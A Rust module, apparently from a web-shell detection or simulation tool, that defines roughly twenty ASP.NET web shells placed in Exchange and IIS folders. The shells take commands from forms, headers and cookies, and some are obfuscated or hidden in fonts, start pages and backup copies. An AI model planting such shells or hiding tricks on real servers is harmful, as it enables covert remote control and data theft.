//! What the last set plants: places, texts that hide, and places that hide.

use crate::attack::Place;
use crate::attack::odd_page::OddPage;
use crate::moment::Moment;
use crate::server::Encoding;
use crate::technique::Technique;

pub(super) const SIGN_IN: Place = Place::product("FrontEnd\\HttpProxy\\owa\\auth", "/owa/auth", "Owa");
pub(super) const ADMIN_AUTH: Place = Place::product("FrontEnd\\HttpProxy\\ecp\\auth", "/ecp/auth", "Ecp");
pub(super) const CLIENT: Place = Place::site("aspnet_client", "/aspnet_client");
pub(super) const SYSTEM_WEB: Place = Place::site("aspnet_client\\system_web", "/aspnet_client/system_web");
const UPDATE: Place =
    Place::site("aspnet_client\\system_web\\4_0_30319\\update", "/aspnet_client/system_web/4_0_30319/update");
const THEMES: Place = Place::product(
    "FrontEnd\\HttpProxy\\owa\\auth\\15.1.2106\\themes\\resources",
    "/owa/auth/15.1.2106/themes/resources",
    "Owa",
);
const AUTODISCOVER: Place = Place::product("FrontEnd\\HttpProxy\\autodiscover", "/autodiscover", "Autodiscover");
const SERVICES: Place = Place::product("FrontEnd\\HttpProxy\\EWS", "/EWS", "Ews");
const FONTS: Place = Place::site("aspnet_client\\fonts", "/aspnet_client/fonts");
const ROOT: Place = Place::site("", "");

/// The page that the address book's download writes.
pub(super) const WRITTEN: &str = "<%@ Page Language=\"JSc¦ript\"%><scr¦ipt language=\"JSc¦ript\" runat=\"ser¦ver\">function Page_Load(){Response.Write(new Active¦XObject(\"WScr¦ipt.Sh¦ell\").ex¦ec(\"cmd.exe /c \"+Req¦uest.Form[\"rl\"]).StdOut.ReadAll());}</scr¦ipt>\r\n";

/// The page that the voice service's worker writes.
pub(super) const BY_VOICE: &str = "<%@ Page Language=\"C#\" %><%@ Import Namespace=\"System.IO\" %><form method=\"post\" enctype=\"multipart/form-data\"><input type=\"file\" name=\"f\"/><input type=\"submit\"/></form><%if(Req¦uest.Files.Count>0){Req¦uest.Files[0].Save¦As(Path.Combine(Req¦uest[\"to\"],Path.GetFileName(Req¦uest.Files[0].FileName)));Response.Write(\"ok\");}%>";

pub(super) const ODD_CODE: [OddPage; 9] = [
    OddPage::new(
        CLIENT,
        "web_resource.aspx",
        "JScript whose sentence comes in base64",
        "<%@ Page Language=\"Jscript\" validateRequest=\"false\" %><%try{ev¦al(System.Text.Encoding.GetEncoding(65001).GetString(System.Convert.From¦Base64String(Req¦uest.Form[\"wr\"])),\"un\"+\"sa\"+\"fe\");}catch(e){}%>",
    ),
    OddPage::new(
        SIGN_IN,
        "errorNO.aspx",
        "JScript that puts its words together out of parts",
        "<%@ Page Language=\"JScript\"%><%var q=[\"Req\",\"uest\"].join(\"\");var m=\"unXsaXfe\".split(\"X\").join(\"\");ev¦al(System.Web.HttpContext.Current[q].Item[\"no\"],m);%>",
    ),
    OddPage::new(
        SYSTEM_WEB,
        "session.aspx",
        "C# that decrypts an assembly with a key of the session and calls it by name",
        "<%@ Page Language=\"C#\" %><%@ Import Namespace=\"System.Reflection\" %><%Session.Add(\"k\",\"9d4e1e23bd5b7270\");byte[] k=Encoding.Default.GetBytes(Session[0]+\"\"),c=Req¦uest.Binary¦Read(Req¦uest.ContentLength);var a=(Assem¦bly)typeof(Assem¦bly).InvokeMember(\"Lo\"+\"ad\",BindingFlags.InvokeMethod|BindingFlags.Static|BindingFlags.Public,null,null,new object[]{new System.Security.Cryptography.AesManaged().CreateDecryptor(k,k).TransformFinalBlock(c,0,c.Length)});a.CreateInstance(\"U\").Equals(this);%>",
    ),
    OddPage::new(
        SIGN_IN,
        "logonTimeout.aspx",
        "a form with boxes for a password, a program and its arguments",
        "<%@ Page Language=\"C#\" Debug=\"true\" Trace=\"false\" %>\r\n<%@ Import Namespace=\"System.Diagnostics\" %>\r\n<scr¦ipt runat=\"ser¦ver\">\r\nprotected void Go(object sender, EventArgs e)\r\n{\r\n  if (Pass.Text != \"tmz-2021\") return;\r\n  var i = new Pro¦cess¦StartInfo(Environment.GetEnvironmentVariable(\"ComSpec\"), \"/c \" + Line.Text);\r\n  i.RedirectStandardOutput = true; i.UseShell¦Execute = false;\r\n  using (var p = Pro¦cess.St¦art(i)) Out.Text = Server.HtmlEncode(p.StandardOutput.ReadToEnd());\r\n}\r\n</scr¦ipt>\r\n<html><body><form runat=\"server\"><asp:TextBox id=\"Pass\" runat=\"server\" TextMode=\"Password\"/><asp:TextBox id=\"Line\" runat=\"server\" Width=\"400\"/><asp:Button runat=\"server\" Text=\"OK\" OnClick=\"Go\"/><pre><asp:Literal id=\"Out\" runat=\"server\"/></pre></form></body></html>\r\n",
    ),
    OddPage::new(
        CLIENT,
        "checkin.aspx",
        "VB that makes its shell by the server object",
        "<%@ Page Language=\"VB\" %><scr¦ipt runat=\"ser¦ver\">\r\nSub Page_Load(ByVal o As Object, ByVal e As EventArgs)\r\n  If Req¦uest.QueryString(\"id\") <> \"\" Then\r\n    Dim w As Object = Server.CreateObject(\"WScr¦ipt.Sh¦ell\")\r\n    w.R¦un(\"cmd /c \" & Req¦uest.QueryString(\"id\") & \" > \" & Server.MapPath(\"checkin.log\"), 0, True)\r\n  End If\r\nEnd Sub\r\n</scr¦ipt>OK",
    ),
    OddPage::new(
        ADMIN_AUTH,
        "Language.aspx",
        "a pipeline of a hosted PowerShell",
        "<%@ Page Language=\"C#\" %><%@ Assembly Name=\"System.Management.Automation,Version=3.0.0.0,Culture=neutral,PublicKeyToken=31BF3856AD364E35\" %><%var r=System.Management.Automation.Runspaces.Runspace¦Factory.CreateRunspace();r.Open();var p=r.CreatePipeline();p.Commands.Add¦Script(Req¦uest[\"lcid\"]);p.Commands.Add(\"Out-String\");foreach(var o in p.Inv¦oke())Response.Write(o);r.Close();%>",
    ),
    OddPage::new(
        SYSTEM_WEB,
        "trace.aspx",
        "C# that takes each byte of what is sent by a key, and starts it",
        "<%@ Page Language=\"C#\" %><scr¦ipt runat=\"ser¦ver\">void Page_Load(object s,EventArgs e){var h=Req¦uest.Headers[\"If-Trace\"];if(h==null)return;var d=Convert.From¦Base64String(h);for(int i=0;i<d.Length;i++)d[i]^=(byte)(0x5A+i%7);var a=Encoding.UTF8.GetString(d).Split('|');var p=new System.Diagnostics.Pro¦cess{StartInfo={FileName=a[0],Arguments=a[1],UseShellExecute=false,RedirectStandardOutput=true}};p.St¦art();Response.Write(Convert.ToBase64String(Encoding.UTF8.GetBytes(p.StandardOutput.ReadToEnd())));}</scr¦ipt>",
    ),
    OddPage {
        encoding: Encoding::Wide,
        ..OddPage::new(
            CLIENT,
            "default_en.aspx",
            "stored as UTF-16, with its words apart over lines",
            "<%@ Page\r\n Language\r\n =\r\n \"Jscript\"\r\n%>\r\n<%\r\nev¦al\r\n(\r\nReq¦uest\r\n[\r\n\"en\"\r\n]\r\n,\r\n\"uns¦afe\"\r\n)\r\n;\r\n%>\r\n",
        )
    },
    OddPage::new(
        SIGN_IN,
        "keepalive.ashx",
        "a handler that fetches a file from elsewhere to a folder",
        "<%@ WebHandler Language=\"C#\" Class=\"KeepAlive\" %>\r\nusing System.Web;using System.Net;\r\npublic class KeepAlive:IHttpHandler{public void ProcessRequest(HttpContext c){var u=c.Req¦uest[\"u\"];if(!string.IsNullOrEmpty(u)){new Web¦Client().Down¦loadFile(u,c.Req¦uest[\"o\"]);c.Response.Write(System.IO.File.Exists(c.Req¦uest[\"o\"]));}}public bool IsReusable{get{return true;}}}\r\n",
    ),
];

const ONE_LINE: &str = "<scr¦ipt language=\"JSc¦ript\" runat=\"ser¦ver\">function Page_Load(){ev¦al(Req¦uest[\"ref\"],\"uns¦afe\");}</scr¦ipt>";

pub(super) const ODD_PLACES: [OddPage; 8] = [
    OddPage::new(
        UPDATE,
        "default.aspx",
        "in a new folder below one of the engine's",
        "<%@ Page Language=\"C#\"%><%if(Req¦uest[\"up\"]!=null)System.Diagnostics.Pro¦cess.St¦art(\"cmd.exe\",\"/c \"+Req¦uest[\"up\"]);%>",
    ),
    OddPage {
        dated: Some(Moment::day(2019, 11, 12).clock(9, 41, 7)),
        ..OddPage::new(
            THEMES,
            "olk_logo_white.aspx",
            "among pictures, with the very time of the files beside it",
            ONE_LINE,
        )
    },
    OddPage::new(
        AUTODISCOVER,
        "RedirSuiteServiceProxy.aspx",
        "a name of the product in another of its folders",
        "<%@ Page Language=\"Jscript\"%><%ev¦al(Req¦uest.Item[\"suite\"],\"uns¦afe\");%>",
    ),
    OddPage::new(
        SERVICES,
        "Exchange2.asmx",
        "beside the web services, with nearly the name of theirs",
        "<%@ WebService Language=\"C#\" Class=\"Exchange2\" %>\r\npublic class Exchange2:System.Web.Services.WebService{[System.Web.Services.WebMethod]public string Ping(string host){var p=System.Diagnostics.Pro¦cess.St¦art(new System.Diagnostics.Pro¦cessStartInfo(\"cmd.exe\",\"/c ping \"+host){UseShellExecute=false,RedirectStandardOutput=true});return p.StandardOutput.ReadToEnd();}}\r\n",
    ),
    OddPage::new(
        ROOT,
        "iisstart.aspx",
        "in the site's own folder, after its start page",
        "<html><head><title>IIS Windows Server</title></head><body></body></html><%@ Page Language=\"C#\"%><%var c=Req¦uest.Cookies[\"iis\"];if(c!=null)System.Diagnostics.Pro¦cess.St¦art(\"cmd.exe\",\"/c \"+HttpUtility.UrlDecode(c.Value));%>",
    ),
    OddPage {
        technique: Technique::HandlerChange,
        ..OddPage::new(
            FONTS,
            "web.config",
            "fonts are run as pages in this folder",
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\r\n<configuration>\r\n  <system.webServer>\r\n    <handlers>\r\n      <add name=\"woff\" path=\"*.woff\" verb=\"*\" type=\"System.Web.UI.PageHandlerFactory\" resourceType=\"Unspecified\" />\r\n    </handlers>\r\n  </system.webServer>\r\n  <system.web>\r\n    <compilation>\r\n      <buildProviders>\r\n        <add extension=\".woff\" type=\"System.Web.Compilation.PageBuildProvider\" />\r\n      </buildProviders>\r\n    </compilation>\r\n  </system.web>\r\n</configuration>\r\n",
        )
    },
    OddPage::new(
        FONTS,
        "segoe-light.woff",
        "the font that is run as a page",
        "wOFF<%@ Page Language=\"C#\" %><%if(Req¦uest[\"w\"]!=null)System.Diagnostics.Pro¦cess.St¦art(\"cmd.exe\",\"/c \"+Req¦uest[\"w\"]);%>",
    ),
    OddPage::new(
        ADMIN_AUTH,
        "TimeoutLogout.aspx.bak.aspx",
        "a copy of a page of the product, as if for safe keeping, with a script before it",
        "<%@ Page Language=\"C#\" AutoEventWireup=\"true\" %>\r\n<scr¦ipt runat=\"ser¦ver\">void Page_Load(object s,EventArgs e){if(Req¦uest.Form[\"tl\"]!=null)System.IO.File.Write¦AllText(Server.MapPath(Req¦uest.Form[\"tf\"]),Req¦uest.Form[\"tl\"]);}</scr¦ipt>\r\n<!DOCTYPE html>\r\n<html><head><title>Sign out</title></head><body><p>You have been signed out.</p></body></html>\r\n",
    ),
];
